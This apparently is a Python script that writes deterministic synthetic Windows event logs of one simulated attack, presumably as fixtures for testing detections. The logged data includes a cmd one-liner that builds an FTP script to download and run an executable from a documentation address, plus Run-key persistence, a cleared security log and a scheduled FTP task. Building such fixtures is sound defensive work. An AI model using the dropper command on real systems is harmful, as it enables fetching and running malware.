#!/usr/bin/env python3
"""Makes Windows event logs of one host on which ftp.exe fetched a program by a script. usage: make_event_logs.py DIRECTORY

Standard library only, no clock, no chance: the same bytes every time. All addresses are documentation addresses (RFC 5737).
"""
import hashlib
import pathlib
import sys

from evtx_writer import Record, write

PC = "PC1.corp.example"
SECURITY, SYSMON = "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Sysmon"
FTP = r"C:\Windows\System32\ftp.exe"
CMD = r"C:\Windows\System32\cmd.exe"


def digests(image):
    """Those of a program, which stand for the program's: they are of its path."""
    data = image.lower().encode()
    return f"MD5={hashlib.md5(data).hexdigest().upper()},SHA256={hashlib.sha256(data).hexdigest().upper()}"


def guid(number):
    return f"{{365ABB72-55F1-5CD8-0000-{number:012X}}}"


def sysmon(event_id, time, version=5, **data):
    return Record(SYSMON, event_id, time, "Microsoft-Windows-Sysmon/Operational", PC, {"RuleName": "-", "UtcTime": time, **data}, version)


def started(time, pid, image, line, parent, parent_image, parent_line):
    return sysmon(1, time, ProcessGuid=guid(pid), ProcessId=pid, Image=image, FileVersion="10.0.19041.1", Description="-", Product="-",
                  Company="Microsoft Corporation", OriginalFileName=image.rsplit("\\", 1)[1], CommandLine=line,
                  CurrentDirectory="C:\\Users\\Public\\", User=r"CORP\kim", LogonGuid=guid(1), LogonId="0x135f2", TerminalSessionId=1,
                  IntegrityLevel="Medium", Hashes=digests(image), ParentProcessGuid=guid(parent), ParentProcessId=parent,
                  ParentImage=parent_image, ParentCommandLine=parent_line, ParentUser=r"CORP\kim")


def security(event_id, time, version=0, **data):
    subject = {"SubjectUserSid": "S-1-5-21-1-2-3-1001", "SubjectUserName": "kim", "SubjectDomainName": "CORP", "SubjectLogonId": "0x135f2"}
    return Record(SECURITY, event_id, time, "Security", PC, {**subject, **data}, version)


SCRIPT = r"ftp -n -s:C:\Users\Public\a.txt"
DROPPER = r'cmd /c "echo open 198.51.100.7>a.txt&echo user u p>>a.txt&echo get a.exe>>a.txt&ftp -n -s:a.txt"'

SYSMON_LOG = [
    Record(SYSMON, 4, "2024-05-12 08:00:00.000", "Microsoft-Windows-Sysmon/Operational", PC,
           {"UtcTime": "2024-05-12 08:00:00.000", "State": "Started", "Version": "15.0", "SchemaVersion": "4.90"}, 3),
    started("2024-05-12 17:20:40.100", 3000, CMD, DROPPER, 2000, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    sysmon(11, "2024-05-12 17:20:40.200", 2, ProcessGuid=guid(3000), ProcessId=3000, Image=CMD, TargetFilename=r"C:\Users\Public\a.txt",
           CreationUtcTime="2024-05-12 17:20:40.200", User=r"CORP\kim"),
    started("2024-05-12 17:20:40.300", 3100, FTP, SCRIPT, 3000, CMD, DROPPER),
    sysmon(22, "2024-05-12 17:20:40.400", ProcessGuid=guid(3100), ProcessId=3100, QueryName="ftp.corp.example", QueryStatus=0,
           QueryResults="::ffff:198.51.100.7;", Image=FTP, User=r"CORP\kim"),
    sysmon(3, "2024-05-12 17:20:40.500", ProcessGuid=guid(3100), ProcessId=3100, Image=FTP, User=r"CORP\kim", Protocol="tcp", Initiated="true",
           SourceIsIpv6="false", SourceIp="192.0.2.5", SourceHostname=PC, SourcePort=50123, SourcePortName="-", DestinationIsIpv6="false",
           DestinationIp="198.51.100.7", DestinationHostname="-", DestinationPort=21, DestinationPortName="ftp"),
    sysmon(3, "2024-05-12 17:20:41.500", ProcessGuid=guid(3100), ProcessId=3100, Image=FTP, User=r"CORP\kim", Protocol="tcp", Initiated="false",
           SourceIsIpv6="false", SourceIp="192.0.2.5", SourceHostname=PC, SourcePort=50124, SourcePortName="-", DestinationIsIpv6="false",
           DestinationIp="198.51.100.7", DestinationHostname="-", DestinationPort=20, DestinationPortName="ftp-data"),
    sysmon(11, "2024-05-12 17:20:41.600", 2, ProcessGuid=guid(3100), ProcessId=3100, Image=FTP, TargetFilename=r"C:\Users\Public\a.exe",
           CreationUtcTime="2024-05-12 17:20:41.600", User=r"CORP\kim"),
    sysmon(5, "2024-05-12 17:20:42.000", 3, ProcessGuid=guid(3100), ProcessId=3100, Image=FTP, User=r"CORP\kim"),
    started("2024-05-12 17:20:43.000", 3200, r"C:\Users\Public\a.exe", "a.exe", 3000, CMD, DROPPER),
    sysmon(23, "2024-05-12 17:20:44.000", ProcessGuid=guid(3000), ProcessId=3000, User=r"CORP\kim", Image=CMD,
           TargetFilename=r"C:\Users\Public\a.txt", Hashes=digests("a.txt"), IsExecutable="false", Archived="true"),
    sysmon(13, "2024-05-12 17:20:45.000", 2, EventType="SetValue", ProcessGuid=guid(3200), ProcessId=3200, Image=r"C:\Users\Public\a.exe",
           TargetObject=r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\a", Details=r"C:\Users\Public\a.exe", User=r"CORP\kim"),
]

SECURITY_LOG = [
    Record("Microsoft-Windows-Eventlog", 1102, "2024-05-12T08:00:00Z", "Security", PC,
           {"SubjectUserSid": "S-1-5-21-1-2-3-1001", "SubjectUserName": "kim", "SubjectDomainName": "CORP", "SubjectLogonId": "0x135f2"},
           user_data="LogFileCleared", namespace="http://manifests.microsoft.com/win/2004/08/windows/eventlog"),
    security(4688, "2024-05-12T17:20:40.3Z", 2, NewProcessId="0xc1c", NewProcessName=FTP, TokenElevationType="%%1938", ProcessId="0xbb8",
             CommandLine=SCRIPT, TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-", TargetLogonId="0x0",
             ParentProcessName=CMD, MandatoryLabel="S-1-16-8192"),
    Record(SECURITY, 5156, "2024-05-12T17:20:40.5Z", "Security", PC,
           {"ProcessID": "3100", "Application": r"\device\harddiskvolume2\windows\system32\ftp.exe", "Direction": "%%14593",
            "SourceAddress": "192.0.2.5", "SourcePort": "50123", "DestAddress": "198.51.100.7", "DestPort": "21", "Protocol": "6",
            "FilterRTID": "0", "LayerName": "%%14611", "LayerRTID": "48", "RemoteUserID": "S-1-0-0", "RemoteMachineID": "S-1-0-0"}, 1),
    security(4689, "2024-05-12T17:20:42Z", Status="0x0", ProcessId="0xc1c", ProcessName=FTP),
    security(4698, "2024-05-12T17:21:00Z", TaskName=r"\nightly",
             TaskContent="<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">"
                         "<Actions><Exec><Command>ftp</Command><Arguments>-s:C:\\Users\\Public\\b.txt</Arguments></Exec></Actions></Task>"),
]

BLOCK = "for ($i = 0; $i -lt 3; $i++) { cmd /c 'ftp -s:C:\\Users\\Public\\a.txt' } # " + "x" * 9000
POWERSHELL_LOG = [
    Record("Microsoft-Windows-PowerShell", 4104, f"2024-05-12T17:2{number}:00Z", "Microsoft-Windows-PowerShell/Operational", PC,
           {"MessageNumber": number + 1, "MessageTotal": 3, "ScriptBlockText": BLOCK[number * 4000:][:4000 if number < 2 else None],
            "ScriptBlockId": "0f8fad5b-d9cb-469f-a165-70867728950e", "Path": ""}, 1, process_id=3300)
    for number in range(3)
]

if __name__ == "__main__":
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    write(folder / "Microsoft-Windows-Sysmon%4Operational.evtx", SYSMON_LOG)
    write(folder / "Security.evtx", SECURITY_LOG)
    write(folder / "Microsoft-Windows-PowerShell%4Operational.evtx", POWERSHELL_LOG)
